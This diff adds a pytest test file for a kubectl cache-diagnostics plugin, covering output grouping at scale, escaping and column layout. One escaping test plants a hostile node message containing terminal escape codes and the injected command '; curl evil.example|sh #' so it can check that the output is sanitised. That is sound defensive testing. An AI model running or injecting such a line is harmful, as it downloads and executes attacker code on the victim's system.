@@ -1,0 +1,86 @@
+"""What people read (issues 14 and 15): one cause hitting thousands of objects is one entry in the table and
+every object in the machine formats; names are escaped; no column starts past column 60 at 80 columns."""
+
+from __future__ import annotations
+
+import json
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests import builders as b
+
+ROOT = Path(__file__).resolve().parents[2]
+
+
+def kcache(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "kubectl_kcache", *args], capture_output=True, text=True, cwd=ROOT,
+                          env=env, timeout=300)
+
+
+def write(tmp_path: Path, items: list[dict]) -> str:
+    path = tmp_path / "cluster.json"
+    path.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": items}))
+    return str(path)
+
+
+@pytest.fixture(scope="module")
+def tainted(tmp_path_factory) -> str:
+    """3,000 GPU nodes of one group, every one with a taint the group does not tolerate."""
+    nodes = [b.node(f"gpu-{i:04d}", {"pool": "gpu"}, taints=[b.taint("nvidia.com/gpu", "present")])
+             for i in range(3000)]
+    items = [b.config_map({"enabled": True}), b.group("gpu", {"pool": "gpu"}), *nodes,
+             *(b.kcn(n["metadata"]["name"]) for n in nodes)]
+    return write(tmp_path_factory.mktemp("scale"), items)
+
+
+def test_a_systematic_taint_on_3000_nodes_is_one_entry_in_the_table(tainted):
+    proc = kcache("doctor", "-f", tainted, "--only", "group-taints")
+    assert proc.returncode == 1, proc.stderr
+    lines = proc.stdout.splitlines()
+    assert len(lines) <= 40, proc.stdout
+    assert any("3000 Nodes" in line for line in lines)
+    text = " ".join(proc.stdout.split())
+    assert ("taint nvidia.com/gpu=present:NoSchedule is not tolerated by preparation Jobs of gpu: gpu-0000, gpu-0001, "
+            "gpu-0002 and 2997 more") in text
+    assert ("all 3000: kubectl get nodes -l pool=gpu -o "
+            "'custom-columns=NAME:.metadata.name,TAINTS:.spec.taints[*].key'") in text
+
+
+def test_every_object_is_in_json_and_wide(tainted):
+    doc = json.loads(kcache("doctor", "-f", tainted, "--only", "group-taints", "-o", "json").stdout)
+    nodes = {f["object"]["name"] for f in doc["findings"] if f["code"] == "blocks-jobs"}
+    assert len(nodes) == 3000
+    wide = kcache("doctor", "-f", tainted, "--only", "group-taints", "-o", "wide").stdout
+    assert "gpu-2999" in wide and "3000 Nodes" not in wide
+
+
+def test_names_from_a_file_are_escaped_and_quoted(tmp_path):
+    evil = "gpu-1\x1b[31m\u202e; curl evil.example|sh #"
+    node = b.node("gpu-1", {"pool": "gpu"})
+    node["spec"]["unschedulable"] = True
+    node["status"]["conditions"][0]["message"] = evil
+    node["status"]["conditions"][0]["status"] = "False"
+    items = [b.config_map({"enabled": True}), b.group("gpu", {"pool": "gpu"}), node, b.kcn("gpu-1")]
+    proc = kcache("doctor", "-f", write(tmp_path, items), "--only", "nodes")
+    assert proc.returncode in (0, 1), proc.stderr
+    assert "\x1b" not in proc.stdout and "\u202e" not in proc.stdout
+    assert "\\x1b[31m\\u202e; curl evil.example|sh #" in proc.stdout
+
+
+def test_no_message_starts_past_column_60_at_80_columns(tmp_path):
+    long_ns = "team-" + "x" * 50
+    cache = b.kernel_cache("llama-3-1-8b-instruct-kcc-7d9c6b5f48-5fc2f4e1d106aaa8a0970991", long_ns, "gone")
+    items = [b.config_map({"enabled": True}), b.group("gpu", {"pool": "gpu"}), b.node("gpu-1", {"pool": "gpu"}),
+             b.kcn("gpu-1"), cache]
+    proc = kcache("doctor", "-f", write(tmp_path, items), "--only", "cache-status", env={"COLUMNS": "80"})
+    assert proc.returncode == 1, proc.stderr
+    for line in proc.stdout.splitlines():
+        m = re.match(r"^ {4}(error|warning|info) +\S+ +(\S)", line)
+        if m:
+            assert m.start(2) < 60, line
+    hints = [line for line in proc.stdout.splitlines() if line.strip().startswith("kubectl")]
+    assert all(len(line) <= 80 for line in proc.stdout.splitlines() if line not in hints)
